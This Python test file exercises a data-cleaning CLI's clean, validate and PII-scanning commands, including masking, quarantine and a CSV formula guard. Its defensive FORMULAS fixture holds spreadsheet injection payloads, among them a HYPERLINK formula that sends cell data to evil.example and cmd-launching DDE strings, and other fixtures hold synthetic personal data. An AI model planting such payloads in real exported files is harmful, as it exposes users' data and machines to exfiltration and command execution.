"""`pipekit clean | validate | scan-pii` through the real CLI: exit codes, messages, no tracebacks."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from pipekit.cli import app
from pipekit.io.atomic import sha256_file
from pipekit.sample import write_customers_csv

runner = CliRunner()
NOW = "2026-01-01T00:00:00Z"


def run(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, list(args))
    text = result.stdout + result.stderr
    assert "Traceback" not in text
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, text


def _write(path: Path, data: str | bytes) -> Path:
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    return path


@pytest.fixture(scope="module")
def customers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_customers_csv(tmp_path_factory.mktemp("data") / "customers.csv", 3000, seed=11)


def test_clean_writes_three_outputs_and_leaves_input(customers: Path, tmp_path: Path) -> None:
    digest = sha256_file(customers)
    code, text = run("clean", str(customers), "--out", str(tmp_path), "--now", NOW)
    assert code == 0, text
    assert "rows written" in text
    names = sorted(p.name for p in tmp_path.iterdir())
    assert names == ["customers_cleaned.csv", "customers_cleaned.parquet", "customers_report.json"]
    assert sha256_file(customers) == digest


def test_clean_json_and_quiet(customers: Path, tmp_path: Path) -> None:
    code, text = run("clean", str(customers), "--out", str(tmp_path), "--now", NOW, "--json")
    assert code == 0
    report = json.loads(text)
    assert report["rows_read"] == 3000 and report["settings"]["now"].startswith("2026-01-01")
    code, text = run("clean", str(customers), "--out", str(tmp_path), "--now", NOW, "--quiet")
    assert code == 0 and text.strip() == ""


@pytest.mark.parametrize(
    ("content", "code", "message"),
    [
        ("", 2, "empty"),
        ("id,fullname\n1,x\n", 1, "missing required column(s): name, email, timestamp"),
        (b"id,name,email,timestamp\n1,ok,a@b.io,2020-01-01\n2,caf\xe9,c@d.io,2020-01-01\n", 2, "line 3"),
        (
            "id,name,email,timestamp\n1,a,a@b.io,2020-01-01\n2,b,c@d.io\n",
            2,
            "line 3 has 3 field(s), expected 4",
        ),
    ],
    ids=["empty", "missing-columns", "not-utf8", "wrong-field-count"],
)
def test_clean_bad_input(tmp_path: Path, content: str | bytes, code: int, message: str) -> None:
    src = _write(tmp_path / "bad.csv", content)
    exit_code, text = run("clean", str(src), "--out", str(tmp_path / "out"))
    assert exit_code == code, text
    assert message in " ".join(text.split())
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_column_names_that_look_like_markup_print_literally(tmp_path: Path) -> None:
    src = _write(tmp_path / "m.csv", "id,name,email,timestamp,[/bold]\n1,a,b,c,d,e\n")
    code, text = run("clean", str(src), "--out", str(tmp_path / "o"))
    assert code == 2 and "expected 5 (id, name, email, timestamp, [/bold])" in text
    src = _write(tmp_path / "n.csv", "id,name,email,timestamp,[red]x\n1,a,b@c.io,2020-01-01,=1\n")
    code, text = run("clean", str(src), "--out", str(tmp_path / "o"))
    assert code == 0 and "CSV formula-guarded: [red]x" in text


def test_clean_not_utf8_suggests_encoding_and_encoding_works(tmp_path: Path) -> None:
    src = _write(tmp_path / "l.csv", "id,name,email,timestamp\n1,josé,j@x.io,2020-01-01\n".encode("latin-1"))
    code, text = run("clean", str(src), "--out", str(tmp_path / "o"))
    assert code == 2 and "--encoding" in text
    code, text = run("clean", str(src), "--out", str(tmp_path / "o"), "--encoding", "latin-1", "--quiet")
    assert code == 0
    assert pq.read_table(tmp_path / "o" / "l_cleaned.parquet").column("name").to_pylist() == ["José"]


def test_clean_quarantine(tmp_path: Path) -> None:
    src = _write(tmp_path / "q.csv", "id,name,email,timestamp\n1,a,a@b.io,2020-01-01\n2,b,c@d.io\n")
    private = tmp_path / "private"
    code, text = run("clean", str(src), "--out", str(tmp_path / "o"), "--bad-rows", "quarantine",
                     "--quarantine-dir", str(private), "--json")  # fmt: skip
    assert code == 0
    report = json.loads(text)
    assert report["quarantined"] == 1 and report["quarantine"]["first_rows"] == [{"line": 3, "record": 3, "fields": 3}]
    assert Path(report["quarantine"]["path"]).parent == private
    assert Path(report["quarantine"]["path"]).read_text().splitlines()[1] == "2,b,c@d.io"
    assert not (tmp_path / "o" / "q_quarantine.csv").exists()
    code, text = run("clean", str(src), "--out", str(tmp_path / "o"), "--bad-rows", "quarantine",
                     "--quarantine-dir", str(tmp_path / "o" / "q"))  # fmt: skip
    assert code == 2 and "inside the output folder" in text


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--now", "tomorrow"], "not an ISO-8601 timestamp"),
        (["--bad-rows", "ignore"], "--bad-rows must be"),
        (["--dedup-keys", "nope"], "duplicate key column(s) not in the file: nope"),
        (["--encoding", "klingon"], "unknown encoding"),
        (["--policy", "/nonexistent/policy.yaml"], "policy"),
    ],
)
def test_clean_bad_usage_exits_2(customers: Path, tmp_path: Path, args: list[str], message: str) -> None:
    code, text = run("clean", str(customers), "--out", str(tmp_path), *args)
    assert code == 2, text
    assert message in " ".join(text.split())


def test_clean_missing_input_exits_2(tmp_path: Path) -> None:
    code, text = run("clean", str(tmp_path / "nope.csv"), "--out", str(tmp_path))
    # one unwrapped line however long pytest's tmp_path is (CliRunner's output is not a terminal)
    assert code == 2 and f"error: {tmp_path / 'nope.csv'}: no such file" in text.splitlines()


def test_validate_reports_problems_with_rows(customers: Path) -> None:
    code, text = run("validate", str(customers))
    assert code == 1
    assert "unparsable timestamp" in text and "rows" in text
    code, text = run("validate", str(customers), "--json")
    assert code == 1 and json.loads(text)["rows"] == 3000


def test_validate_clean_file_exits_0(tmp_path: Path) -> None:
    src = _write(tmp_path / "ok.csv", "id,name,email,timestamp\n1,Ann,ann@x.io,2020-01-01T00:00:00Z\n")
    assert run("validate", str(src), "--quiet") == (0, "")
    code, text = run("validate", str(_write(tmp_path / "m.csv", "id\n1\n")))
    assert code == 1 and "MISSING" in text


PLANTED = (
    "id,note\n"
    "1,mail me at jane.doe@example.com\n"
    "2,card 4111 1111 1111 1111\n"
    "3,ssn 123-45-6789\n"
    "4,iban GB82 WEST 1234 5698 7654 32\n"
    "5,server 192.168.10.20\n"
    "6,call +1 (555) 123-4567\n"
    "7,card 4111 1111 1111 1112\n"
)


def test_scan_pii_finds_planted_pii(tmp_path: Path) -> None:
    src = _write(tmp_path / "pii.csv", PLANTED)
    code, text = run("scan-pii", str(src), "--json")
    assert code == 1
    found = json.loads(text)["findings"]["note"]
    assert {"email", "credit_card", "us_ssn", "iban", "ipv4", "phone"} <= set(found)
    assert found["credit_card"] == 1  # the invalid-Luhn number is not a card


def test_scan_pii_finds_none_in_masked_columns_of_clean_output(customers: Path, tmp_path: Path) -> None:
    code, text = run("scan-pii", str(customers), "--columns", "email", "--json")
    assert code == 1 and json.loads(text)["findings"]["email"]["email"] > 2000
    assert run("clean", str(customers), "--out", str(tmp_path), "--now", NOW, "--quiet")[0] == 0
    for output in ("customers_cleaned.parquet", "customers_cleaned.csv"):
        code, text = run("scan-pii", str(tmp_path / output), "--columns", "email")
        assert code == 0, text
        assert "no PII found" in text


def test_scan_pii_with_glue_policy_masks_every_sensitive_column(tmp_path: Path) -> None:
    from pipekit.sample import write_adventureworks_csv

    src = write_adventureworks_csv(tmp_path / "aw.csv", 500, seed=1)
    policy = _write(
        tmp_path / "policy.yaml",
        "columns:\n  FirstName: {strategy: literal, value: hu25}\n  EmailAddress: {strategy: email}\n"
        "  Phone: {strategy: partial, keep_last: 4}\n  PasswordHash: {strategy: redact}\n  PasswordSalt: {strategy: redact}\n",
    )
    code, text = run("clean", str(src), "--out", str(tmp_path / "o"), "--policy", str(policy), "--required",
                     "CustomerID,EmailAddress", "--quiet")  # fmt: skip
    assert code == 0, text
    assert run("scan-pii", str(tmp_path / "o" / "aw_cleaned.parquet"))[0] == 0
    names = pq.read_table(tmp_path / "o" / "aw_cleaned.parquet").column("FirstName").to_pylist()
    assert set(names) == {"hu25"}


def test_scan_pii_unreadable_file(tmp_path: Path) -> None:
    code, text = run("scan-pii", str(_write(tmp_path / "x.parquet", b"PAR1 not really")))
    assert code == 2 and "Parquet" in text


def test_help_texts_teach() -> None:
    for command in ("clean", "validate", "scan-pii"):
        code, text = run(command, "--help")
        assert code == 0 and "Examples" in text and "Exit codes" in text


# --- the user's path, as a subprocess: formula guard, PII in quarantine and messages, masking keys ----

PIPEKIT = Path(sys.executable).parent / "pipekit"


def _pipekit(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
    result = subprocess.run([str(PIPEKIT), *args], capture_output=True, text=True, timeout=120,
                            env={**os.environ, **env})  # fmt: skip
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    return result


FORMULAS = (
    "id,name,email,timestamp,note,amount\n"
    '1,ann,a@b.io,2020-01-01,"=HYPERLINK(""http://evil.example/?x=""&A1)",-12.5\n'
    "2,bob,c@d.io,2020-01-01,+cmd|' /C calc'!A0,+1\n"
    "3,cy,e@f.io,2020-01-01,@SUM(1+1),-1e5\n"
    '4,di,g@h.io,2020-01-01,"\t=1+1",3\n'
    "5,ed,i@j.io,2020-01-01,-2+3+cmd|' /C calc'!A0,-0.5\n"
)


def test_cli_csv_neutralises_formulas_by_default_and_not_with_no_formula_guard(tmp_path: Path) -> None:
    src = _write(tmp_path / "f.csv", FORMULAS)
    done = _pipekit("clean", str(src), "--out", str(tmp_path / "o"), "--now", NOW)
    assert done.returncode == 0, done.stderr
    assert "CSV formula-guarded: note" in done.stdout
    csv = pd.read_csv(tmp_path / "o" / "f_cleaned.csv", dtype=str, keep_default_na=False)
    assert csv["note"].tolist() == [
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'=1+1",
        "'-2+3+cmd|' /C calc'!A0",
    ]  # fmt: skip
    assert csv["amount"].tolist() == ["-12.5", "+1", "-1e5", "3", "-0.5"]  # plain numbers are not formulas
    parquet = pq.read_table(tmp_path / "o" / "f_cleaned.parquet").column("note").to_pylist()
    assert parquet[0].startswith("=HYPERLINK") and parquet[3] == "=1+1"  # Parquet keeps the true values
    report = json.loads((tmp_path / "o" / "f_report.json").read_text())
    assert report["csv_formula_guard"]["cells"] == {"note": 5} and report["settings"]["formula_guard"] is True

    done = _pipekit("clean", str(src), "--out", str(tmp_path / "off"), "--now", NOW, "--no-formula-guard", "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["csv_formula_guard"] == {"enabled": False, "cells": {}, "header_cells": 0, "total": 0}
    csv = pd.read_csv(tmp_path / "off" / "f_cleaned.csv", dtype=str, keep_default_na=False)
    assert csv["note"].tolist()[3] == "=1+1"


# Raw personal data in good rows and in malformed rows (too few fields, an unquoted comma, too many).
PII_ROWS = (
    "id,name,email,phone,timestamp\n"
    "1,jane roe,jane.roe@example.com,+1 555 010 0001,2020-01-01\n"
    "2,john poe,john.poe@example.org,(555) 010-0002,2020-01-02\n"
    "3,mary major,mary.major@example.net,555-010-0003\n"
    "4,rick rowe,rick,rowe@example.com,555-010-0004,2020-01-04\n"
    "5,ann lee,ann.lee@example.com,555-010-0005,2020-01-05,extra,+44 20 7946 0958\n"
)
SENSITIVE = [
    "jane.roe@example.com", "jane.roe", "+1 555 010 0001", "john.poe@example.org", "john.poe", "(555) 010-0002",
    "mary.major@example.net", "mary.major", "555-010-0003", "rowe@example.com", "555-010-0004",
    "ann.lee@example.com", "ann.lee", "555-010-0005", "+44 20 7946 0958",
]  # fmt: skip
PII_POLICY = "columns:\n  email: {strategy: email}\n  phone: {strategy: partial, keep_last: 4}\n"


def _texts_under(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (hidden and temp files too) as text; Parquet also as its decoded values."""
    texts = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        texts[str(path)] = path.read_bytes().decode("utf-8", "replace")
        if path.suffix == ".parquet":  # compressed pages could hide a value from a byte search
            texts[f"{path} (values)"] = json.dumps(pq.read_table(path).to_pylist())
    return texts


def test_no_raw_pii_in_published_files_or_messages_with_malformed_rows(tmp_path: Path) -> None:
    src = _write(tmp_path / "people.csv", PII_ROWS)
    policy = _write(tmp_path / "policy.yaml", PII_POLICY)
    out, private = tmp_path / "out", tmp_path / "private"
    common = ["--policy", str(policy), "--now", NOW, "--required", "id,email"]
    runs = [
        _pipekit("clean", str(src), "--out", str(out), "--bad-rows", "quarantine", "--quarantine-dir", str(private),
                 *common),
        _pipekit("clean", str(src), "--out", str(out), "--bad-rows", "quarantine", "--quarantine-dir", str(private),
                 *common, "--json"),
        _pipekit("clean", str(src), "--out", str(out / "stopped"), *common),  # --bad-rows error: stops at line 4
        _pipekit("validate", str(src)),
        _pipekit("scan-pii", str(src)),
    ]  # fmt: skip
    assert [r.returncode for r in runs] == [0, 0, 2, 2, 2], [r.stderr for r in runs]
    assert "line 4 has 4 field(s), expected 5 (id, name, email, phone, timestamp)" in runs[2].stderr
    report = json.loads(runs[1].stdout)
    assert report["quarantined"] == 3 and [r["line"] for r in report["quarantine"]["first_rows"]] == [4, 5, 6]

    texts = _texts_under(out)
    assert {Path(k).name for k in texts} >= {"people_cleaned.csv", "people_cleaned.parquet", "people_report.json"}
    for i, run_ in enumerate(runs):
        texts[f"run {i} stdout"], texts[f"run {i} stderr"] = run_.stdout, run_.stderr
    leaks = [(value, where) for value in SENSITIVE for where, text in texts.items() if value in text]
    assert leaks == []

    # The raw rows are kept, owner-only, outside the published folder, at the path the report gives.
    quarantine = Path(report["quarantine"]["path"])
    assert quarantine.parent == private and out not in quarantine.parents
    assert stat.S_IMODE(quarantine.stat().st_mode) == 0o600
    assert "mary.major@example.net" in quarantine.read_text()
    # The good rows were cleaned and masked.
    cleaned = pq.read_table(out / "people_cleaned.parquet").to_pydict()
    assert cleaned["email"] == ["j***@example.com", "j***@example.org"]
    assert cleaned["phone"] == ["***********0001", "**********0002"]


def test_a_short_mask_key_is_refused_with_how_to_make_one(tmp_path: Path) -> None:
    src = _write(tmp_path / "k.csv", "id,name,email,timestamp\n1,a,a@b.io,2020-01-01\n")
    policy = _write(tmp_path / "hash.yaml", "columns:\n  email: {strategy: email, email_mode: hash}\n")
    args = ["clean", str(src), "--out", str(tmp_path / "o"), "--policy", str(policy), "--now", NOW]
    done = _pipekit(*args, PIPEKIT_MASK_KEY="a")
    assert done.returncode == 2
    lines = done.stderr.splitlines()
    assert lines[0].startswith("error: PIPEKIT_MASK_KEY is 1 byte(s) long; a masking key needs at least 16"), lines
    assert "python -c 'import secrets; print(secrets.token_hex(32))'" in done.stderr
    assert not (tmp_path / "o").exists()
    done = _pipekit(*args, "--json", PIPEKIT_MASK_KEY="0123456789abcdef0123456789abcdef")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["counts"]["masked.email"] == 1
